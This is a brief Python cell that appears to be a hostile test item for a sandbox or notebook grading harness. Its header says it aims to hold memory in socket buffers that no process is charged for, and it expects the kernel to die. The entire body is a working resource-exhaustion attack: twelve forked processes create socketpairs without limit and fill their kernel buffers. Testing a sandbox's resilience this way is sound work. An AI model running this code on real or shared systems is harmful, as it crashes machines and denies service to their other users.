# ---
# kind: hostile
# about: holds memory in the buffers of thousands of sockets, where no process is charged for it
# max_points: 28
# events: [kernel-died]
# ---
# %% before u01_e2_classifier
import os
import socket
import time

for _ in range(12):
    if os.fork() == 0:
        held = []
        while True:
            try:
                held.append(socket.socketpair())
            except OSError:
                time.sleep(60)
            for end in held[-1]:
                end.setblocking(False)
                try:
                    while True:
                        end.send(bytes(2**16))
                except OSError:
                    pass
time.sleep(60)
